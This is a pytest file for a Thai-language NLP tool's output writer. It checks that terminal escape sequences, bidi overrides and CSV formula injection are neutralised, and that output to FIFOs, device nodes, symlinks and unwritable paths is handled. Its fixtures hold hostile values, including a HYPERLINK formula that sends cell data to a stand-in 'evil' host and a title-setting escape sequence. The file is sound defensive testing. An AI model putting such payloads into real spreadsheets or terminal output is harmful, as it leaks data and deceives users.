"""Cases 2 (terminal injection), 3 (CSV formula injection), 4 (-o onto a device or symlink,
file modes), 18 (-o to a missing / read-only / full target): one output writer."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading

import pytest

from bma_nlp.errors import OutputError
from bma_nlp.output import csv_cell, json_safe, one_line, terminal_safe, write_output
from bma_nlp.store.query import Hit
from bma_nlp.store.render import render_hits

from .conftest import SAMPLE, one_line_error

ESC_TITLE = "\x1b]0;pwned\x07"
RLO = "\u202e"
CSI_C1 = "\x9b31m"

HOSTILE_NOTE = f"ดำเนินการ{ESC_TITLE}แล้ว {RLO}txt.exe =HYPERLINK(\"http://x\") {CSI_C1}"


def _raw_controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]


def _hit(**kw) -> Hit:
    base = dict(code="=1+2", fiscal_year=2566, project=f"-{RLO}x", installment=1, date="2023-01-01", stage="approval",
                note=HOSTILE_NOTE, snippet=HOSTILE_NOTE, score=1.0)  # fmt: skip
    base.update(kw)
    return Hit(**base)


def test_terminal_text_shows_controls_as_escapes():
    out = terminal_safe(f"a{ESC_TITLE}b{RLO}c\nd")
    assert not _raw_controls(out) and "\\u001b" in out and "\\u202e" in out and "\n" in out
    assert "\n" not in one_line("a\nb\rc") and "\\u000a" in one_line("a\nb")


@pytest.mark.parametrize("fmt", ["table", "json", "jsonl", "csv"])
def test_search_output_has_no_raw_control_characters(fmt):
    out = render_hits([_hit()], fmt, 200)
    assert not _raw_controls(out), fmt


def test_json_escaping_is_lossless():
    text = json.dumps({"note": HOSTILE_NOTE}, ensure_ascii=False)
    assert json.loads(json_safe(text))["note"] == HOSTILE_NOTE


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")'])
def test_formula_cells_are_neutralised(value):
    cell = csv_cell(value)
    assert cell.startswith("'")


def test_numbers_and_plain_text_stay():
    assert csv_cell(-5) == -5 and csv_cell(1.5) == 1.5 and csv_cell(None) is None
    assert csv_cell("ดำเนินการแล้ว") == "ดำเนินการแล้ว"


def _hostile_report(tmp_path):
    text = SAMPLE.read_text(encoding="utf-8")
    text = text.replace("ค่าใช้จ่ายโครงการพัฒนาคุณภาพเครือข่ายโรงเรียน", "=1+2")  # every copy
    text = text.replace("ดำเนินการเรียบร้อยแล้ว", f'=HYPERLINK("http://evil/?"&A1,"คลิก") {RLO}ดำเนินการเรียบร้อยแล้ว')
    path = tmp_path / "hostile.txt"
    path.write_text(text, encoding="utf-8")
    return path


def _cells(csv_text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(csv_text.lstrip("\ufeff"))) for c in row]


def test_parse_export_and_search_csv_never_start_a_cell_with_a_formula(tmp_path, cli):
    path = _hostile_report(tmp_path)
    parsed = cli("parse", path, "--format", "csv", "--no-classify")
    assert parsed.exit_code == 0, parsed.stderr
    db = tmp_path / "a.db"
    assert cli("ingest", path, "--db", db, "--no-classify").exit_code == 0
    exported = cli("export", "--db", db, "--format", "csv")
    searched = cli("search", "คลิก", "--db", db, "--format", "csv")
    listed = cli("search", "--db", db, "--format", "csv")
    for result in (parsed, exported, searched, listed):
        cells = _cells(result.stdout)
        assert any("HYPERLINK" in c for c in cells) or any("1+2" in c for c in cells)
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert not _raw_controls(result.stdout)
    table = cli("search", "คลิก", "--db", db)
    assert table.exit_code == 0 and not _raw_controls(table.stdout) and "\\u202e" in table.stdout
    # JSON keeps the text exactly
    (report,) = json.loads(cli("export", "--db", db, "--format", "json").stdout)
    assert report["project"]["name"] == "=1+2"


def test_error_lines_escape_file_names(cli, tmp_path):
    name = tmp_path / f"a{ESC_TITLE}\nb{RLO}.txt"
    result = cli("parse", name, SAMPLE, "--no-classify")
    assert result.exit_code == 1
    assert one_line_error(result.stderr) and not _raw_controls(result.stderr)


# ------------------------------------------------------------------ -o targets


def test_output_onto_a_fifo_writes_in_place(tmp_path):
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(open(fifo, "rb").read()))
    reader.start()
    write_output(fifo, "hello\n")
    reader.join(10)
    assert got == [b"hello\n"] and stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_output_onto_a_character_device_is_not_replaced(tmp_path):
    dev = tmp_path / "null"
    try:
        os.mknod(dev, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a private /dev/null
    except (PermissionError, OSError):
        pytest.skip("cannot create a device node here")
    write_output(dev, "x" * 1000)
    assert stat.S_ISCHR(os.stat(dev).st_mode)
    full = tmp_path / "full"
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # a private /dev/full
    with pytest.raises(OutputError, match="no space left"):
        write_output(full, "x")
    assert stat.S_ISCHR(os.stat(full).st_mode)


def test_output_through_a_symlink_keeps_the_link(tmp_path):
    real = tmp_path / "real.json"
    real.write_text("old")
    os.chmod(real, 0o640)
    link = tmp_path / "link.json"
    link.symlink_to(real)
    write_output(link, "new")
    assert link.is_symlink() and real.read_text() == "new" and stat.S_IMODE(real.stat().st_mode) == 0o640


def test_new_output_file_follows_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        write_output(tmp_path / "a.csv", "x")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o644


def test_output_errors_name_the_target(cli, tmp_path, monkeypatch):
    missing = tmp_path / "no" / "such" / "dir" / "out.json"
    result = cli("parse", SAMPLE, "--no-classify", "-o", missing)
    assert result.exit_code == 1 and one_line_error(result.stderr)
    assert str(missing) in result.stderr and "no such folder" in result.stderr and ".out.json." not in result.stderr
    result = cli("parse", SAMPLE, "--no-classify", "-o", tmp_path)
    assert result.exit_code == 1 and "is a directory" in result.stderr

    import tempfile

    def denied(*a, **k):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", denied)
    target = tmp_path / "ro.json"
    result = cli("parse", SAMPLE, "--no-classify", "-o", target)
    assert result.exit_code == 1 and one_line_error(result.stderr) and "permission denied" in result.stderr and str(target) in result.stderr
